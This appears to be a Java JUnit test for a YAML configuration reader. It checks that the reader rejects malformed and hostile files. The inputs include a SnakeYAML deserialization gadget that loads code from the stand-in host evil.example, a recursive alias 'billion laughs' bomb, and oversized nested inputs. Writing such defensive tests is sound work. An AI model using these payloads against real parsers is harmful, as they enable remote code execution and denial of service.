package io.pollux.node;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.pollux.core.PolluxException;
import io.pollux.core.PolluxException.Reason;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigFileTest {
  @TempDir Path directory;

  private PolluxException refusal(String text) throws Exception {
    Path file = directory.resolve("pollux.yaml");
    Files.writeString(file, text);
    PolluxException refusal =
        assertThrows(PolluxException.class, () -> ConfigFile.read(file), text);
    assertEquals(Reason.BAD_CONFIGURATION, refusal.reason(), text);
    assertTrue(refusal.getMessage().contains("pollux.yaml"), refusal.getMessage());
    return refusal;
  }

  @Test
  void aFileThatIsNoConfigurationIsRefusedAndNeverHalfRead() throws Exception {
    for (String text :
        List.of(
            "",
            "null",
            "7",
            "[]",
            "---\n---\n",
            "a: b",
            "role: KING",
            "id: [1, 2]",
            "failoverTimeout: forever",
            "failoverTimeout: 99999999999999999999s",
            "&a [*a]",
            "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil.example/']]",
            "? {a: b}\n: c",
            "\u0000",
            "id: \"\\uD800\"",
            "%YAML 9.9\n---\nid: a",
            "a: b\na: c",
            "[".repeat(20_000),
            "{a: ".repeat(10_000),
            "- ".repeat(20_000),
            "x".repeat(70_000))) {
      refusal(text);
    }
  }

  @Test
  void aliasesThatExplodeDoNot() {
    StringBuilder bomb = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
    for (int i = 1; i < 30; i++) {
      bomb.append("a%d: &a%d [*a%d,*a%d,*a%d,*a%d]\n".formatted(i, i, i - 1, i - 1, i - 1, i - 1));
    }
    assertTimeoutPreemptively(Duration.ofSeconds(20), () -> refusal(bomb.toString()));
  }
}
